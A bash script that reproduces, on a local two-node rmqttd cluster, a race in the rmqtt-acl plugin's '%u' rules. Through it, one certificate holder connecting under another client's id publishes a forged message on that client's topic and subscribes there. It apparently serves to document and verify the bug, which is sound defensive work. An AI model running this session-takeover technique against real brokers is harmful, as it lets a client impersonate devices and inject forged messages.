#!/usr/bin/env bash
# Minimal reproduction, rmqttd 0.24 and no Aloft: rmqtt-acl's `%u` rules can let a client
# publish on another client's topics (docs/SCALING.md, "Clustered broker (rmqttd)"). Two nodes
# in a raft cluster (rmqtt-cluster-raft); every client below connects to node 1. (One node
# without the cluster plugin did not show it in 30 rounds.)
#
# The listener requires a client certificate and takes the user name from its CN
# (cert_cn_as_username); the ACL allows each client `dev/%u/#` and nothing else. rmqtt-acl
# builds a client's `%u` filters in a task it spawns at connect, keys them by client id (not by
# user name), and removes them at disconnect from a list that task fills. Here clients with
# dev-2's certificate and client id `dev-2` take each other's session over (as two copies of a
# device, or an attacker and its victim, do), while dev-1's certificate connects under client
# id `dev-2` and tries to publish on dev/dev-2/status. When a dev-2 session's filter outlives
# it, dev-1 (any client of the CA) connecting as `dev-2` gets PUBACK 0 there, with no dev-2
# connected at all, and a subscriber to dev/+/status receives the forged message. A later
# clean dev-2 session on the node removes it.
#
#   deploy/rmqtt/repro-acl-client-id.sh [--rmqttd PATH] [--rounds N]
# Exits 0 if it reproduced the stale grant (PUBACK 0), 1 if not within N rounds (default 20).
set -euo pipefail

rmqttd="${RMQTTD:-$(command -v rmqttd || true)}"
rounds=20
while (($#)); do
    case "$1" in
    --rmqttd) rmqttd="$2"; shift 2 ;;
    --rounds) rounds="$2"; shift 2 ;;
    *) sed -n '2,19p' "$0" >&2; exit 2 ;;
    esac
done
[[ -n "$rmqttd" && -x "$rmqttd" ]] || { echo "no rmqttd (--rmqttd PATH or RMQTTD)" >&2; exit 2; }

tmp="$(mktemp -d -t rmqtt-acl-repro-XXXXXX)"
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
    for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
    rm -rf "$tmp"
}
trap cleanup EXIT
cd "$tmp"

# A CA, a server certificate for 127.0.0.1, client certificates with CN dev-1, dev-2, reader.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 -subj "/CN=Repro CA" \
    -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign" \
    -keyout ca.key -out ca.crt 2>/dev/null
issue() { # name CN EKU [SAN]
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$2" \
        -keyout "$1.key" -out "$1.csr" 2>/dev/null
    printf 'basicConstraints=CA:FALSE\nextendedKeyUsage=%s\n%s' "$3" "${4:+subjectAltName=$4}" >"$1.ext"
    openssl x509 -req -in "$1.csr" -CA ca.crt -CAkey ca.key -CAcreateserial -days 1 \
        -extfile "$1.ext" -out "$1.crt" 2>/dev/null
}
issue server server serverAuth IP:127.0.0.1
issue dev1 dev-1 clientAuth
issue dev2 dev-2 clientAuth
issue reader reader clientAuth

read -r -a p <<<"$(python3 -c '
import socket
socks = [socket.socket() for _ in range(6)]
for s in socks:
    s.bind(("127.0.0.1", 0))
print(" ".join(str(s.getsockname()[1]) for s in socks))')"
mqtt=("${p[0]}" "${p[1]}")
rpc=("${p[2]}" "${p[3]}")
raft=("${p[4]}" "${p[5]}")
port="${mqtt[0]}"
for n in 1 2; do
    i=$((n - 1))
    mkdir -p "node$n/plugins"
    cat >"node$n/rmqtt.toml" <<CONF
node.id = $n
rpc.server_addr = "127.0.0.1:${rpc[$i]}"
log.to = "console"
log.level = "warn"
plugins.dir = "$tmp/node$n/plugins"
plugins.default_startups = ["rmqtt-acl", "rmqtt-cluster-raft"]
plugins.disabled_default_startups = ["rmqtt-http-api"]
listener.tls.external.addr = "127.0.0.1:${mqtt[$i]}"
listener.tls.external.cert = "$tmp/server.crt"
listener.tls.external.key = "$tmp/server.key"
listener.tls.external.cross_certificate = true
listener.tls.external.client_ca_certs = "$tmp/ca.crt"
listener.tls.external.cert_cn_as_username = true
listener.tls.external.allow_anonymous = false
CONF
    cat >"node$n/plugins/rmqtt-cluster-raft.toml" <<CONF
node_grpc_addrs = ["1@127.0.0.1:${rpc[0]}", "2@127.0.0.1:${rpc[1]}"]
raft_peer_addrs = ["1@127.0.0.1:${raft[0]}", "2@127.0.0.1:${raft[1]}"]
laddr = "127.0.0.1:${raft[$i]}"
leader_id = 1
CONF
    cat >"node$n/plugins/rmqtt-acl.toml" <<'CONF'
disconnect_if_pub_rejected = false
rules = [
    ["allow", "all", "connect"],
    ["allow", { user = "reader" }, "subscribe", ["dev/+/status"]],
    ["allow", "all", "pubsub", ["dev/%u/#"]],
    ["deny", "all"],
]
CONF
    (cd "node$n" && exec "$rmqttd" -f rmqtt.toml >rmqttd.log 2>&1) &
    pids+=("$!")
done
for m in "${mqtt[@]}"; do
    for _ in $(seq 1 100); do
        (exec 3<>"/dev/tcp/127.0.0.1/$m") 2>/dev/null && break
        sleep 0.2
    done
done
sleep 3 # the raft cluster forms
echo "$("$rmqttd" --version | head -1): nodes on 127.0.0.1:${mqtt[0]} and :${mqtt[1]}"

as() { # as CERT TOOL ARGS...: a TLS + MQTT 5 client of node 1 with CERT's certificate
    local cert="$1"
    shift
    "$@" -V 5 -h 127.0.0.1 -p "$port" --cafile ca.crt --cert "$cert.crt" --key "$cert.key"
}
as_bg() { # the same, replacing the (background) shell
    local cert="$1"
    shift
    exec "$@" -V 5 -h 127.0.0.1 -p "$port" --cafile ca.crt --cert "$cert.crt" --key "$cert.key"
}
# The PUBACK reason code (mosquitto_pub exits non-zero when refused: read from its debug output).
puback() {
    local out
    out="$("$@" -q 1 -d 2>&1 || true)"
    sed -n 's/.*received PUBACK.*RC:\([0-9]*\).*/\1/p' <<<"$out" | head -1
}
spoof() { puback as dev1 mosquitto_pub -i dev-2 -t dev/dev-2/status -m "forged by dev-1"; }
echo "dev-1 on dev/dev-1/status as itself: PUBACK $(puback as dev1 mosquitto_pub \
    -t dev/dev-1/status -m own)"
echo "dev-1 as client id dev-2 on dev/dev-2/status, nobody else connected: PUBACK $(spoof)"

for round in $(seq 1 "$rounds"); do
    # Five copies of dev-2 (its own certificate) take each other's session over, while dev-1
    # keeps connecting as client id dev-2 too.
    copies=()
    for _ in 1 2 3 4 5; do
        as_bg dev2 mosquitto_sub -i dev-2 -t dev/dev-2/job -q 1 >/dev/null 2>&1 &
        copies+=("$!")
    done
    for _ in $(seq 1 15); do spoof >/dev/null; done
    kill "${copies[@]}" 2>/dev/null || true
    wait "${copies[@]}" 2>/dev/null || true
    sleep 1
    code="$(spoof)"
    echo "round $round: no dev-2 connected; dev-1 as client id dev-2 on dev/dev-2/status: PUBACK ${code:-none}"
    if [[ "$code" == 0 ]]; then
        as_bg reader mosquitto_sub -t 'dev/+/status' -q 1 -v -W 5 -C 1 >reader.out 2>&1 &
        reader=$!
        sleep 1
        spoof >/dev/null
        wait "$reader" || true
        echo "a subscriber to dev/+/status received: $(cat reader.out)"
        out="$(as dev1 mosquitto_sub -i dev-2 -t 'dev/dev-2/#' -q 1 -d -W 2 -C 1 2>&1 || true)"
        echo "dev-1 as client id dev-2 subscribing to dev/dev-2/#: SUBACK $(sed -n \
            's/.*Subscribed (mid: [0-9]*): \([0-9]*\).*/\1/p' <<<"$out" | head -1)"
        echo "REPRODUCED: a client published on another client's topic (stale rmqtt-acl grant)"
        exit 0
    fi
    # Start the next round clean: a clean dev-2 session removes what was left behind.
    as dev2 mosquitto_pub -i dev-2 -t dev/dev-2/status -q 1 -m clean >/dev/null 2>&1 || true
done
echo "not reproduced in $rounds rounds"
exit 1
